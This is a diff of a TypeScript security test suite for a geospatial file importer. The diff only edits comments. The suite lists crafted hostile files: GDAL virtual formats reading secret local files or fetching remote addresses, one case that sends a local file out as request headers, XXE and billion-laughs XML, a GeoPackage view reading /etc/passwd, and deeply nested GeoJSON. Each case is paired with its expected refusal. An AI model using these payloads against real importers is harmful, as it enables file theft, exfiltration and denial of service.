@@ -53,23 +53,23 @@ const external = (root: string, address: string): string => `<!DOCTYPE ${root} [
 
 const attacks: Attack[] = [
   ...['geojson', 'csv', 'json', 'gpkg'].map((extension): Attack => ({
-    // attack 2.2: a virtual format of vectors over a local file
+    // attack: a virtual format of vectors over a local file
     name: `OGR VRT of a local file, called .${extension}`,
     file: `source.${extension}`,
     make: ({ secretFile }) => vrt(secretFile),
     refusedBy: unreadable,
   })),
-  // attack 2.2: a virtual format of vectors over an address
+  // attack: a virtual format of vectors over an address
   { name: 'OGR VRT that fetches', file: 'source.gml', make: ({ address }) => vrt(`/vsicurl/${address}/a.csv`), refusedBy: unreadable },
   {
-    // attack 2.2: a local file sent out as headers
+    // attack: a local file sent out as headers
     name: 'OGR VRT that sends a local file as headers',
     file: 'source.kml',
     make: ({ address, secretFile }) => vrt(`/vsicurl?header_file=${secretFile}&amp;url=${address}/a.csv`),
     refusedBy: unreadable,
   },
   {
-    // attack 2.2: a virtual format of images over raw bytes
+    // attack: a virtual format of images over raw bytes
     name: 'raster VRT with raw bytes, called .tif',
     file: 'source.tif',
     make: ({ secretFile }) =>
@@ -77,14 +77,14 @@ const attacks: Attack[] = [
     refusedBy: unreadable,
   },
   {
-    // attack 2.2: a map service that is called an image
+    // attack: a map service that is called an image
     name: 'a web map service, called .tif',
     file: 'source.tif',
     make: ({ address }) => `<GDAL_WMS><Service name="TMS"><ServerUrl>${address}/\${z}/\${x}/\${y}.png</ServerUrl></Service></GDAL_WMS>`,
     refusedBy: unreadable,
   },
   ...(['link', 'URL', 'name'] as const).map((type): Attack => ({
-    // attack 2.2: a coordinate system by its address
+    // attack: a coordinate system by its address
     name: `GeoJSON with a coordinate system by ${type}`,
     file: 'source.geojson',
     make: ({ address }) =>
@@ -94,7 +94,7 @@ const attacks: Attack[] = [
     refusedBy: unreadable,
   })),
   {
-    // attack 2.2: a virtual table over a local file
+    // attack: a virtual table over a local file
     name: 'GeoPackage with VirtualText over a local file',
     file: 'source.gpkg',
     make: ({ secretFile }, path) =>
@@ -102,7 +102,7 @@ const attacks: Attack[] = [
     refusedBy: /^source\.geopackage-virtual$/,
   },
   {
-    // attack 2.2: a virtual table over an address
+    // attack: a virtual table over an address
     name: 'GeoPackage with VirtualOGR over an address',
     file: 'source.gpkg',
     make: ({ address }, path) => geopackage(path, ...virtual('fuite', `VirtualOGR('/vsicurl/${address}/a.csv')`)),
@@ -114,14 +114,14 @@ const attacks: Attack[] = [
     `SELECT ogr_datasource_load_layers('/etc/passwd') AS a`,
     'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i FROM n',
   ].map((query): Attack => ({
-    // attack 2.2: a view that calls a function of the reader, or never ends
+    // attack: a view that calls a function of the reader, or never ends
     name: `GeoPackage with a view: ${query.slice(0, 45)}`,
     file: 'source.gpkg',
     make: (_, path) => geopackage(path, ...view('vue', query)),
     refusedBy: /^source\.geopackage-view$/,
   })),
   {
-    // attack 2.2: a catalogue of tables that never ends
+    // attack: a catalogue of tables that never ends
     name: 'GeoPackage whose catalogue is an endless view',
     file: 'source.gpkg',
     make: (_, path) =>
@@ -139,7 +139,7 @@ const attacks: Attack[] = [
     refusedBy: /^source\.geopackage-trigger$/,
   },
   {
-    // attack 2.2: a file by an entity of XML
+    // attack: a file by an entity of XML
     name: 'KML that includes a file by an entity',
     file: 'source.kml',
     make: ({ secretFile }) => kml('<name>&x;</name>', external('kml', `file://${secretFile}`)),
@@ -164,7 +164,7 @@ const attacks: Attack[] = [
     refusedBy: /^source\.xml-doctype$/,
   },
   {
-    // attack 2.2: entities that multiply
+    // attack: entities that multiply
     name: 'GML with entities that multiply',
     file: 'source.gml',
     make: () => gml('', '&e9;', laughs('c')),
@@ -177,14 +177,14 @@ const attacks: Attack[] = [
     refusedBy: /^source\.xml-doctype$/,
   },
   {
-    // attack 2.2: links to the network in XML
+    // attack: links to the network in XML
     name: 'KML that links to the network',
     file: 'source.kml',
     make: ({ address }) => kml(`<NetworkLink><Link><href>${address}/a.kml</href></Link></NetworkLink>`),
     features: 1,
   },
   {
-    // attack 2.2: schemas by address in XML
+    // attack: schemas by address in XML
     name: 'GML whose schema is an address',
     file: 'source.gml',
     make: ({ address }) =>
@@ -195,7 +195,7 @@ const attacks: Attack[] = [
     features: 1,
   },
   {
-    // attack 2.2: files of others in the folder of a geodatabase
+    // attack: files of others in the folder of a geodatabase
     name: 'file geodatabase with a virtual format beside its tables',
     file: 'source.zip',
     make: ({ secretFile, address }, path) =>
@@ -208,7 +208,7 @@ const attacks: Attack[] = [
     features: 200,
   },
   {
-    // attack 2.2: a virtual format for a table of a geodatabase
+    // attack: a virtual format for a table of a geodatabase
     name: 'file geodatabase with a virtual format for a table',
     file: 'source.zip',
     make: ({ secretFile }, path) => {
@@ -219,7 +219,7 @@ const attacks: Attack[] = [
     refusedBy: /^source\.gdb-version$/,
   },
   {
-    // attack 2.2: rows of a geodatabase that are one and the same
+    // attack: rows of a geodatabase that are one and the same
     name: 'file geodatabase whose rows are all the same bytes',
     file: 'source.zip',
     make: (_, path) => {
@@ -234,7 +234,7 @@ const attacks: Attack[] = [
     refusedBy: /^source\.gdb-overlap$/,
   },
   {
-    // attack 2.2: rows of a geodatabase beyond its end
+    // attack: rows of a geodatabase beyond its end
     name: 'file geodatabase that claims rows beyond its end',
     file: 'source.zip',
     make: (_, path) => {
@@ -248,14 +248,14 @@ const attacks: Attack[] = [
     refusedBy: /^source\.gdb-short$/,
   },
   {
-    // attack 2.2: arrays that nest
+    // attack: arrays that nest
     name: 'GeoJSON of 100,000 nested arrays',
     file: 'source.geojson',
     make: () => geojson({ a: 0 }).replace('"a":0', `"a":${'['.repeat(100_000)}${']'.repeat(100_000)}`),
     refusedBy: unreadable,
   },
   {
-    // attack 2.2: geometries that nest
+    // attack: geometries that nest
     name: 'GeoJSON of 20,000 nested collections',
     file: 'source.geojson',
     make: () => {
